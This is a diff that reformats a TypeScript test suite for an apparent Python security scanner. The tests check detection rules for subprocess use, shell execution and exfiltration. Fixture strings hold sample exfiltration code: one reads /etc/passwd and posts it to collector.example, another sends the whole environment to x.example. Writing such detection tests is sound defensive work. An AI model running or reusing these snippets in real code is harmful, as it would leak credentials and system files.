@@ -46,7 +46,10 @@ describe("pythonFindings", () => {
   });
 
   it("flags subprocess without a shell as HIGH", () => {
-    const findings = pythonFindings("scripts/tool.py", "import subprocess\nsubprocess.run(['ls', '-l'], shell=False, timeout=2**4)\n");
+    const findings = pythonFindings(
+      "scripts/tool.py",
+      "import subprocess\nsubprocess.run(['ls', '-l'], shell=False, timeout=2**4)\n",
+    );
     expect(findings.map((f) => [f.ruleId, f.severity])).toEqual([["python-subprocess", "HIGH"]]);
   });
 
@@ -79,11 +82,16 @@ describe("pythonFindings", () => {
   });
 
   it("ignores a reverse shell described in prose", () => {
-    expect(ids('"""A reverse shell uses socket.socket(), os.dup2() and subprocess.call()."""\n# socket.socket() os.dup2() subprocess.call()\n')).toEqual([]);
+    expect(
+      ids(
+        '"""A reverse shell uses socket.socket(), os.dup2() and subprocess.call()."""\n# socket.socket() os.dup2() subprocess.call()\n',
+      ),
+    ).toEqual([]);
   });
 
   it("flags a sensitive read with a network sink as CRITICAL exfiltration", () => {
-    const source = "import requests\ndata = open('/etc/passwd').read()\nrequests.post('https://collector.example', data=data)\n";
+    const source =
+      "import requests\ndata = open('/etc/passwd').read()\nrequests.post('https://collector.example', data=data)\n";
     expect(ids(source)).toEqual(["python-sensitive-exfil"]);
   });
 
@@ -92,13 +100,17 @@ describe("pythonFindings", () => {
   });
 
   it("flags a bulk environment read with a network sink", () => {
-    const source = "import os, json, urllib.request\nbody = json.dumps(dict(os.environ))\nurllib.request.urlopen('https://x.example', body)\n";
+    const source =
+      "import os, json, urllib.request\nbody = json.dumps(dict(os.environ))\nurllib.request.urlopen('https://x.example', body)\n";
     expect(ids(source)).toEqual(["python-env-dump-exfil"]);
-    expect(ids("import os, requests\nfor k, v in os.environ.items():\n    requests.get('https://x.example')\n")).toEqual(["python-env-dump-exfil"]);
+    expect(
+      ids("import os, requests\nfor k, v in os.environ.items():\n    requests.get('https://x.example')\n"),
+    ).toEqual(["python-env-dump-exfil"]);
   });
 
   it("ignores single environment lookups next to a network sink", () => {
-    const source = "import os, requests\nkey = os.environ['API_KEY']\nurl = os.environ.get('URL')\nrequests.get('https://api.example.com', headers={'k': key})\n";
+    const source =
+      "import os, requests\nkey = os.environ['API_KEY']\nurl = os.environ.get('URL')\nrequests.get('https://api.example.com', headers={'k': key})\n";
     expect(ids(source)).toEqual([]);
   });
 });
@@ -112,7 +124,14 @@ describe("pythonFindings limits", () => {
   });
 
   it("handles unclosed and deeply nested calls", () => {
-    expect(ids("subprocess.run(\n".repeat(3) + "import subprocess\n")).toEqual(["python-subprocess", "python-subprocess", "python-subprocess"]);
-    expect(ids("import subprocess\n" + "subprocess.run(".repeat(500) + "shell=True" + ")".repeat(500))).toEqual(["python-subprocess", "python-shell-exec"]);
+    expect(ids("subprocess.run(\n".repeat(3) + "import subprocess\n")).toEqual([
+      "python-subprocess",
+      "python-subprocess",
+      "python-subprocess",
+    ]);
+    expect(ids("import subprocess\n" + "subprocess.run(".repeat(500) + "shell=True" + ")".repeat(500))).toEqual([
+      "python-subprocess",
+      "python-shell-exec",
+    ]);
   });
 });
